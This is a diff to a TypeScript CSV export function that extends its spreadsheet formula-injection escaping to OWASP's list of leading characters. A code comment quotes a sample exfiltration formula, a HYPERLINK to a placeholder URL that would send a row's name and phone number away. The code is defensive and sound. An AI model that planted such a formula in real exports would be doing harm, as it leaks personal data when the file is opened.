@@ -1,13 +1,20 @@
 import type { ExportValue } from './export-rows';
 
-/** One RFC 4180 line. A text starting with `=` or `@` is prefixed with `'` so a spreadsheet does not run it as a formula. */
+/**
+ * A text a spreadsheet would read as a formula: starting with `=`, `+`, `-` or `@`, or with a tab or
+ * carriage return before one (OWASP's list). `+HYPERLINK("https://...?"&I2,"open")` in a narrative
+ * would otherwise send the row's name and phone away when a manager opens the file in Excel.
+ */
+export const FORMULA_START = /^[=+\-@\t\r]/;
+
+/** One RFC 4180 line. A text that a spreadsheet would read as a formula gets a leading `'` (the import takes it off again). */
 export function csvLine(values: readonly ExportValue[]): string {
   return (
     values
       .map((v) => {
         if (v === null) return '';
         let s = String(v);
-        if (typeof v === 'string' && /^[=@]/.test(s)) s = `'${s}`;
+        if (typeof v === 'string' && FORMULA_START.test(s)) s = `'${s}`;
         return /[",\r\n;]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
       })
       .join(',') + '\r\n'
